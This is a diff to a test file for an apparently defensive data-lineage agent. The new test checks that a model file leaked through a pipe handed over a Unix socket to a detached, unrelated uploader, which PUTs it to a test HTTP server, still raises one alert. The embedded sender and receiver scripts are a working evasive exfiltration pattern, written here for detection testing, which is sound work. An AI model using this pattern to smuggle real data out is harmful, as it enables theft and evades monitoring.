@@ -1,4 +1,4 @@
-"""Bad input (issue 14): a fork bomb next to a read.
+"""Bad input (issue 14): a fork bomb next to a read, and a pipe passed over a Unix socket (SCM_RIGHTS).
 
 The agent runs as the installed service runs it, with the lineage acceptance test's fixtures (the service,
 ana and her protected model of about 15 MiB in ~/models). Every program below runs as ana, never root.
@@ -11,12 +11,19 @@ storming program, the parent that forks the storm): the hard case for joining si
 them live when the read is seen. Each leak raises its one model-lineage alert within 2 s of its end naming the
 model, ana and the output; its flow lists only the leak's processes (the storm passed no data to it); the
 agent keeps running, its status fresh, its resident memory bounded.
+
+A pipe passed over a Unix socket: B, a receiver ana started earlier on its own (setsid: neither the
+parent, a child nor a sibling of A), waits on a Unix socket. A makes a pipe, passes its read end to B with
+SCM_RIGHTS and writes the model into the write end; B uploads whatever it reads to an HTTP server in a
+network namespace the test creates. One alert names the model, ana and B's destination.
 """
 
 from __future__ import annotations
 
 import contextlib
 import json
+import os
+import signal
 import subprocess
 import sys
 import textwrap
@@ -31,10 +38,14 @@ import pytest
 
 from tests.agent.cli.helpers import WEIGHTWARDEN
 from tests.agent.test_lineage_acceptance import (  # noqa: F401 - the fixtures
+    MODEL,
     InstalledAgent,
+    NamespaceUnavailable,
     Person,
     expect_one,
+    lineage_alerts,
     people,
+    put_server_in_a_namespace,
     service,
 )
 from tests.waiting import wait_for
@@ -234,3 +245,141 @@ def test_a_fork_storm_of_siblings_of_the_reader(service: tuple[InstalledAgent, P
     alert = expect_one(agent, ana, "cat | gzip, siblings of a storm", str(out), report["leak_ended"])
     expect_a_flow_of_the_leak(alert, {"cat", "gzip"})
     healthy(agent)
+
+
+# B: binds a Unix socket, says it is ready (its pid and parent) in READY, waits (at most 60 s) for one
+# connection bringing a descriptor (SCM_RIGHTS), uploads what it reads from it to http://HOST:PORT/fd as a
+# chunked PUT while it reads, and appends the bytes it sent to READY.
+RECEIVER = textwrap.dedent("""
+    import os, socket, sys
+    path, host, port, ready = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
+    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    server.bind(path)
+    server.listen(1)
+    server.settimeout(60)
+    with open(ready + ".part", "w") as note:
+        note.write(f"{os.getpid()} {os.getppid()}\\n")
+    os.rename(ready + ".part", ready)
+    conn, _ = server.accept()
+    _, fds, _, _ = socket.recv_fds(conn, 16, 4)
+    conn.close()
+    server.close()
+    os.unlink(path)
+    sent = 0
+    with os.fdopen(fds[0], "rb", buffering=0) as source, socket.create_connection((host, port), timeout=30) as up:
+        up.sendall(b"PUT /fd HTTP/1.1\\r\\nHost: sink\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n")
+        while block := source.read(1 << 20):
+            up.sendall(b"%x\\r\\n" % len(block) + block + b"\\r\\n")
+            sent += len(block)
+        up.sendall(b"0\\r\\n\\r\\n")
+        up.recv(1024)
+    with open(ready, "a") as note:
+        note.write(f"sent {sent}\\n")
+""")
+
+# A: makes a pipe, passes its read end over the Unix socket SOCKET (SCM_RIGHTS), keeps only the write end,
+# and writes the model into it a MiB at a time (a steady leak of about a second). Prints its pid and parent.
+SENDER = textwrap.dedent("""
+    import os, socket, sys, time
+    model, path = sys.argv[1], sys.argv[2]
+    read_end, write_end = os.pipe()
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as peer:
+        peer.connect(path)
+        socket.send_fds(peer, [b"pipe"], [read_end])
+    os.close(read_end)
+    print(os.getpid(), os.getppid(), flush=True)
+    with open(model, "rb") as source, os.fdopen(write_end, "wb", buffering=0) as sink:
+        while block := source.read(1 << 20):
+            view = memoryview(block)
+            while view:
+                view = view[sink.write(view):]
+            time.sleep(0.05)
+""")
+
+
+@pytest.fixture(scope="module")
+def server() -> Iterator[tuple[str, int]]:
+    """The acceptance test's PUT server, on a subnet of its own (other modules, and other runs of them on the
+    machine, use theirs)."""
+    try:
+        with put_server_in_a_namespace(f"10.231.{160 + uuid.uuid4().int % 60}") as address:
+            yield address
+    except NamespaceUnavailable as why:
+        pytest.skip(str(why))
+
+
+@contextlib.contextmanager
+def receiver(person: Person, socket_path: Path, address: str, port: int) -> Iterator[tuple[int, int, Path]]:
+    """B, started on its own (setsid -f: its parent exits, it is nobody's child or sibling in this test):
+    (its pid, its parent's pid, the note it writes)."""
+    ready = person.home / f"receiver-{uuid.uuid4().hex[:6]}.ready"
+    script = person.home / "receiver.py"
+    script.write_text(RECEIVER)
+    os.chown(script, person.uid, person.gid)
+    person.run("sh", "-c", 'setsid -f "$@" </dev/null >/dev/null 2>&1', "sh", sys.executable, str(script),
+               str(socket_path), address, str(port), str(ready))
+    text = wait_for(lambda: ready.exists() and ready.read_text(), timeout=15, what="the receiver to listen")
+    pid, parent = (int(n) for n in text.split()[:2])
+    try:
+        yield pid, parent, ready
+    finally:
+        with contextlib.suppress(ProcessLookupError):
+            if Path(f"/proc/{pid}").exists() and os.stat(f"/proc/{pid}").st_uid == person.uid:
+                os.kill(pid, signal.SIGKILL)
+        socket_path.unlink(missing_ok=True)
+
+
+def ancestors(pid: int) -> list[int]:
+    chain = []
+    while pid > 1 and len(chain) < 64:
+        try:
+            with open(f"/proc/{pid}/stat", "rb") as handle:
+                pid = int(handle.read().rpartition(b") ")[2].split()[1])
+        except OSError:
+            break
+        chain.append(pid)
+    return chain
+
+
+def seen_sending(agent: InstalledAgent, address: str, pid: int) -> str:
+    """What the agent recorded of connections to `address` (which process, how many bytes): a missing alert
+    then says whether the connection was not seen, seen without its process, or seen and not joined."""
+    seen = [(e.get("process") or {}, e.get("details") or {}) for e in agent.json_lines("events")
+            if e["event"]["action"] == "network-connection"
+            and ((e.get("details") or {}).get("destination") or {}).get("address") == address]
+    lines = [f"{p.get('name')}[{p.get('pid')}] {d.get('phase', '?')} {d.get('bytes_sent', '?')} bytes"
+             for p, d in seen]
+    return f"connections to {address} recorded (the receiver is pid {pid}): {lines or 'none'}"
+
+
+def test_a_pipe_passed_over_a_unix_socket_to_an_unrelated_uploader(
+        service: tuple[InstalledAgent, Path], people: tuple[Person, Person],  # noqa: F811
+        server: tuple[str, int]) -> None:
+    agent, model = service
+    ana, _ = people
+    address, port = server
+    socket_path = ana.home / f"fd-{uuid.uuid4().hex[:6]}.sock"
+    with receiver(ana, socket_path, address, port) as (b_pid, b_parent, ready):
+        b_ancestors = ancestors(b_pid)
+        sender = ana.run(sys.executable, "-c", SENDER, str(model), str(socket_path))
+        ended = time.time()
+        a_pid, a_parent = (int(n) for n in sender.stdout.split()[:2])
+        # unrelated: neither is the other's ancestor, and they have no parent in common (not siblings)
+        assert a_pid not in b_ancestors and b_pid not in (a_parent, *ancestors(a_parent)), (b_ancestors, a_parent)
+        assert b_parent != a_parent and (not b_ancestors or b_ancestors[0] != a_parent), (b_parent, a_parent)
+        note = wait_for(lambda: "sent" in ready.read_text() and ready.read_text(), timeout=15,
+                        what="the receiver to upload what it read")
+        sent = int(note.split("sent")[1])
+        assert sent == model.stat().st_size, note
+        try:
+            alert = expect_one(agent, ana, "pipe over SCM_RIGHTS, B uploads", f"{address}:{port}", ended)
+        except AssertionError as missing:
+            raise AssertionError(f"{missing}; {seen_sending(agent, address, b_pid)}") from None
+    assert alert["destination"]["address"] == address, alert["destination"]
+    names = {p.rpartition("[")[0] for p in alert["evidence"]["processes"]}
+    assert any(p.endswith(f"[{b_pid}]") for p in alert["evidence"]["processes"]), names
+    assert alert["evidence"]["output_bytes"] >= model.stat().st_size // 2, alert["evidence"]
+    mine = [a for a in lineage_alerts(agent) if a["evidence"].get("user") == ana.name
+            and f"{address}:{port}" in [o.get("where") for o in a["evidence"].get("outputs", [])]]
+    assert len(mine) == 1, [a["message"] for a in mine]
+    assert MODEL in alert["message"]
